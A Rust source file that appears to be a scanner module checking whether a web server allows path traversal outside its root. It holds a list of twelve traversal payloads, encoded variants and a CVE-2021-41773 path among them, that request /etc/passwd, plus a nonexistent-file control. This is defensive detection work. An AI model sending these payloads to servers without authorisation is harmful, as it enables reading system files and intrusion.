//! Whether a path or a parameter leads out of the directory that a web server shows. Requests are written by hand:
//! every library takes dots out of a path before it sends it.
use super::get;
use crate::model::{
    Observation, Sha256Digest,
    observation::{ControlAnswer, clean, web::Question},
};
use crate::scan::{
    data::pattern,
    net::Trouble,
    probe::{html, inside::is_harmless},
    session::{Ctx, Identified},
};
use regex::Regex;
use std::{collections::BTreeSet, sync::LazyLock, time::Duration};

/// Ways out of a directory, by what goes wrong in servers. `*` stands for a file's path from the root, `%*` for the
/// same with its strokes encoded.
const WAYS: [&str; 12] = [
    "/../../../../../../../..*",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e*",
    "/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%*",
    // Decoded twice.
    "/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..*",
    // One pass takes `../` away and leaves it.
    "/....//....//....//....//....//....//....//....*",
    "/..%5c..%5c..%5c..%5c..%5c..%5c..%5c..*",
    // Overlong UTF-8 for a stroke.
    "/..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..*",
    // The second dot alone is encoded, below a directory of programs (CVE-2021-41773).
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e*",
    // The path as it stands (thttpd and its kin).
    "/*",
    "/cgi-bin/webproc?getpage=*&var:page=deviceinfo",
    "/?file=../../../../../../../..*",
    "/?page=../../../../../../../..*",
];
/// Parameters of the first page's own links that are tried beside them.
const MOST_LINKS: usize = 4;
/// A file that every system with users has, and anybody on it reads.
const FILE: &str = "/etc/passwd";
/// How much of an answer is read.
const MOST: usize = 64 * 1024;
const WAIT: Duration = Duration::from_secs(3);

static USERS: LazyLock<Regex> = LazyLock::new(|| {
    pattern("passwd", r"(?m)^root:[^:\s]{0,200}:0:0:[^:\r\n]{0,200}:/[^:\r\n]{0,200}:[^:\r\n]{0,200}\r?$")
});
/// Parameters that name a file or a page.
static NAMES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        "file-parameter",
        r"(?i)^(/[^?#]*\?(?:[^#]*[&;])?(?:file|filename|path|page|doc|document|template|include|lang|download|dir|view|log)=)[^&;#]*",
    )
});

pub async fn outside_root(ctx: &Ctx, s: &Identified) -> Result<(), Trouble> {
    let first = get(ctx, s, "/").await?;
    let ways = WAYS.iter().map(|w| (*w).to_owned()).chain(parameters(&first.text()));
    for way in ways.collect::<BTreeSet<_>>() {
        let path = filled(&way, FILE);
        let seen = ask(ctx, s, &path).await?;
        let (answer, proof) = match &seen.said {
            Said::Nothing => (ControlAnswer::Silent, format!("no answer within {} s", WAIT.as_secs())),
            Said::HungUp => (ControlAnswer::Refused, "it hung up, and answers ordinary requests".to_owned()),
            Said::Other(status) => (ControlAnswer::Refused, format!("status {status}, without the file")),
            Said::Users => control(ctx, s, &way).await?,
        };
        let stop = answer != ControlAnswer::Refused;
        let (question, path, proof) = (Question::OutsideRoot, clean(&path, 200), clean(&proof, 160));
        let told = Observation::HttpControlled { question, path, answer, proof };
        ctx.record(s.endpoint, told, Some(seen.tape));
        // One way out says it all, and a server that stopped answering is not pressed.
        if stop {
            break;
        }
    }
    Ok(())
}

/// The same way to a file that cannot exist: what brings the list of users there, too, opens no files.
async fn control(ctx: &Ctx, s: &Identified, way: &str) -> Result<(ControlAnswer, String), Trouble> {
    let nothing = filled(way, &format!("/etc/patuh-{:016x}", rand::random::<u64>()));
    Ok(match ask(ctx, s, &nothing).await?.said {
        Said::Users => (ControlAnswer::Unclear, format!("the same as {FILE} comes for a file that cannot exist")),
        Said::Nothing | Said::HungUp | Said::Other(_) => {
            (ControlAnswer::Answered, format!("{FILE} comes, and nothing like it for a file that cannot exist"))
        }
    })
}

fn filled(way: &str, file: &str) -> String {
    way.replace("%*", &file.replace('/', "%2f")).replace('*', file)
}

/// Links of the page with a parameter that names a file.
fn parameters(page: &str) -> BTreeSet<String> {
    let links = html::read(page).links.into_iter().filter(|l| is_harmless(l) && !l.contains(['*', '\r', '\n', ' ']));
    let out = |l: String| Some(format!("{}../../../../../../../..*", NAMES.captures(&l)?.get(1)?.as_str()));
    links.filter_map(out).take(MOST_LINKS).collect()
}

enum Said {
    Nothing,
    HungUp,
    Other(u16),
    /// A list of users.
    Users,
}

struct Seen {
    said: Said,
    tape: Sha256Digest,
}

/// One request as it stands. Bodies are read, and not kept.
async fn ask(ctx: &Ctx, s: &Identified, path: &str) -> Result<Seen, Trouble> {
    let mut wire = ctx.connect(s.endpoint, s.tls).await?;
    wire.tape.heads_only();
    let host = s.endpoint.addr();
    let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: patuh\r\nConnection: close\r\n\r\n");
    let reply = match wire.send(request.as_bytes()).await {
        Ok(()) => wire.collect(WAIT, WAIT * 2, MOST, whole).await,
        Err(t) => Err(t),
    };
    let tape = wire.close().await;
    let said = match reply {
        Ok(bytes) => said(&bytes),
        Err(Trouble::Silent(_)) => Said::Nothing,
        Err(Trouble::Closed) => {
            get(ctx, s, "/").await?;
            Said::HungUp
        }
        Err(t) => return Err(t),
    };
    Ok(Seen { said, tape })
}

fn said(bytes: &[u8]) -> Said {
    let text = String::from_utf8_lossy(bytes);
    let status = text.strip_prefix("HTTP/").and_then(|t| t.split_whitespace().nth(1)?.parse().ok()).unwrap_or_default();
    if USERS.is_match(&text) { Said::Users } else { Said::Other(status) }
}

/// Whether the length that the head states has come; else the end of the connection tells.
fn whole(bytes: &[u8]) -> bool {
    let Some(end) = bytes.windows(4).position(|w| w == b"\r\n\r\n") else { return false };
    let head = String::from_utf8_lossy(bytes.get(..end).unwrap_or_default()).to_ascii_lowercase();
    let length = head.lines().find_map(|l| l.strip_prefix("content-length:")?.trim().parse::<usize>().ok());
    length.is_some_and(|n| bytes.len() >= end.saturating_add(4).saturating_add(n))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_list_of_users_is_told_from_pages_about_one() {
        let is = |t: &str| matches!(said(t.as_bytes()), Said::Users);
        assert!(is("HTTP/1.0 200 OK\r\n\r\nroot:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/:/bin/false\n"));
        assert!(is("HTTP/1.0 200 OK\r\n\r\nroot:$1$ab$cd:0:0::/:/bin/ash\r\n"));
        for page in
            ["/etc/passwd was not found", "<p>root:x:0:0:root:/root:/bin/sh</p>", "root:x:0", "groot:x:0:0:a:/:/b"]
        {
            assert!(!is(&format!("HTTP/1.1 404 Not Found\r\n\r\n{page}")), "{page}");
        }
    }

    #[test]
    fn ways_are_filled_and_a_page_s_own_parameters_join_them() {
        assert_eq!(filled("/..%2f..%*", "/etc/passwd"), "/..%2f..%2fetc%2fpasswd");
        assert_eq!(filled("/../..*", "/etc/passwd"), "/../../etc/passwd");
        let page =
            "<a href='/show?x=1&file=help.txt&y=2'>h</a><a href='/reboot?page=1'>r</a><a href='/a?token=1'>t</a>";
        assert_eq!(parameters(page).into_iter().collect::<Vec<_>>(), ["/show?x=1&file=../../../../../../../..*"]);
    }

    proptest! {
        #[test]
        fn no_bytes_make_the_reader_panic(bytes: Vec<u8>) {
            let _ = (said(&bytes), whole(&bytes));
        }
    }
}
